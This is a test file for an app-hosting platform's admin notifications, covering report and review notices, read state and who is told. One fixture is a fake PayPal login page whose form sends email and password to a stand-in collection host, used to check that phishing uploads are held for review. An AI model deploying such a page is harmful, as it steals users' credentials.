/** What admins are told of: new reports, and apps that wait for a review; through HTTP, on each database. */
import { beforeAll, expect, test } from 'vitest'
import { draftApp, publishedApp } from '../../../server/testing/apps.ts'
import { Person, signedUp, signIn } from '../../../server/testing/people.ts'
import { onEachDatabase } from '../../../server/testing/test-server.ts'
import { changeApp } from '../../apps/contract.ts'
import { deleteComment, postComment } from '../../comments/contract.ts'
import { listNotifications, markNotificationsRead } from '../../notifications/contract.ts'
import { publishApp } from '../../publishing/contract.ts'
import * as contract from '../contract.ts'

const hourMs = 3_600_000
const reason = 'It copies another site'
const held = {
  'index.html':
    '<!doctype html><title>PayPal - Log in</title><h1>PayPal</h1><form action="https://collect.example/in" method="post"><input name="mail"><input type="password" name="key"></form>',
}

onEachDatabase(
  'notices of admins',
  (server) => {
    let rosa: Person
    let hal: Person
    let ada: Person
    let ben: Person
    let number = 0
    beforeAll(async () => {
      rosa = await signedUp(server(), 'rosa')
      hal = await signedUp(server(), 'hal')
      ada = await signedUp(server(), 'ada')
      ben = await signedUp(server(), 'ben')
    }, 60_000)
    const inbox = async (who: Person) => (await who.calls(listNotifications, {})).body
    /** Kind, number and whether it was read, of each entry about an app that only admins are told of. */
    const told = async (who: Person, id: string) =>
      (await inbox(who)).notifications
        .filter(({ app, kind }) => app?._id === id && (kind === 'report' || kind === 'review'))
        .map(({ kind, count, isRead }) => [kind, count, isRead])
    const published = async (who = ada) => (await publishedApp(who, `app-${(number += 1)}`)).id
    const waits = async (who = ada) => {
      const id = await draftApp(who, `held-${(number += 1)}`, held)
      expect((await who.calls(publishApp, { id })).body.held).toBe(true)
      return id
    }
    const reportsApp = async (who: Person, id: string) =>
      (await who.calls(contract.reportApp, { id, reason: 'spam' })).status
    /** A visitor at an address of their own. */
    const visitorReports = (id: string) =>
      server().request(
        `/api/apps/${id}/report`,
        {
          method: 'POST',
          headers: { 'Content-Type': 'application/json' },
          body: '{"reason":"spam"}',
        },
        '10.0.0.9',
      )
    const reads = async (who: Person) =>
      who.calls(markNotificationsRead, {
        ids: (await inbox(who)).notifications.map(({ _id }) => _id),
      })

    test('every admin is told of new reports of an app and its comments by number, and nobody else [NTF-01] [PERM-28]', async () => {
      const id = await published()
      const { _id: comment } = (await ben.calls(postComment, { appId: id, content: 'Rude words' }))
        .body.comment
      await reportsApp(ben, id)
      await visitorReports(id)
      // Said twice it is one report.
      await reportsApp(ben, id)
      await ada.calls(contract.reportComment, { id: comment, reason: 'harassment' })
      for (const admin of [rosa, hal]) expect(await told(admin, id)).toEqual([['report', 3, false]])
      for (const other of [ada, ben]) expect(await told(other, id)).toEqual([])
      const text = JSON.stringify(await inbox(rosa))
      expect([text.includes('"ben"'), text.includes('Rude words')]).toEqual([false, false])
      // Hidden, its report is told all the same.
      await rosa.calls(contract.decideComment, { id: comment, act: 'hide', reason })
      expect(await told(hal, id)).toEqual([['report', 2, false]])
      await rosa.calls(contract.dismissReports, { kind: 'app', id })
      expect(await told(hal, id)).toEqual([])
    })

    test('an admin is not told of a report of their own, nor of one whose comment is gone [NTF-01] [NTF-04]', async () => {
      const id = await published()
      await reportsApp(rosa, id)
      expect([await told(rosa, id), await told(hal, id)]).toEqual([[], [['report', 1, false]]])
      const other = await published()
      const { _id: comment } = (await ben.calls(postComment, { appId: other, content: 'Rude' }))
        .body.comment
      await ada.calls(contract.reportComment, { id: comment, reason: 'spam' })
      expect(await told(hal, other)).toEqual([['report', 1, false]])
      await ben.calls(deleteComment, { id: comment })
      expect(await told(hal, other)).toEqual([])
    })

    test('of one app an admin is told once until it is read, and again a day later [NTF-03]', async () => {
      const id = await published()
      await reportsApp(ben, id)
      await reads(rosa)
      await visitorReports(id)
      expect(await told(rosa, id)).toEqual([['report', 1, true]])
      expect(await told(hal, id)).toEqual([['report', 2, false]])
      // Of another app at once.
      const other = await published()
      await reportsApp(ben, other)
      expect(await told(rosa, other)).toEqual([['report', 1, false]])
      server().pass(24 * hourMs)
      for (const who of [rosa, hal, ada, ben]) await signIn(who)
      expect(await told(rosa, id)).toEqual([
        ['report', 1, false],
        ['report', 1, true],
      ])
    })

    test('admins are told of an app that waits for a review, except its author, until it is decided or withdrawn [NTF-01] [PUB-22]', async () => {
      const id = await waits()
      for (const admin of [rosa, hal]) expect(await told(admin, id)).toEqual([['review', 1, false]])
      expect(await told(ada, id)).toEqual([])
      const { entries } = (await rosa.calls(contract.listReview, {})).body
      const versionId = entries.find(({ app }) => app._id === id)?.versionId ?? ''
      await rosa.calls(contract.rejectVersion, { id, versionId, reason })
      expect(await told(hal, id)).toEqual([])

      const withdrawn = await waits()
      await ada.calls(changeApp, { id: withdrawn, status: 'draft' })
      expect(await told(hal, withdrawn)).toEqual([])

      const own = await waits(hal)
      expect([await told(hal, own), await told(rosa, own)]).toEqual([[], [['review', 1, false]]])
    })
  },
  { env: { ADMINS: 'builtin:rosa,builtin:hal' } },
)

onEachDatabase(
  'notices of the first account of a host on this machine',
  (server) => {
    test('are told to it and to no other [NTF-01] [PERM-16]', async () => {
      const first = await signedUp(server(), 'first')
      server().pass(1)
      const second = await signedUp(server(), 'second')
      const { id } = await publishedApp(second, 'tea')
      await new Person(server(), 'visitor').calls(contract.reportApp, { id, reason: 'spam' })
      const kinds = async (who: Person) =>
        (await who.calls(listNotifications, {})).body.notifications.map(({ kind }) => kind)
      expect([await kinds(first), await kinds(second)]).toEqual([['report'], []])
    })
  },
  { env: { ADMINS: '' } },
)
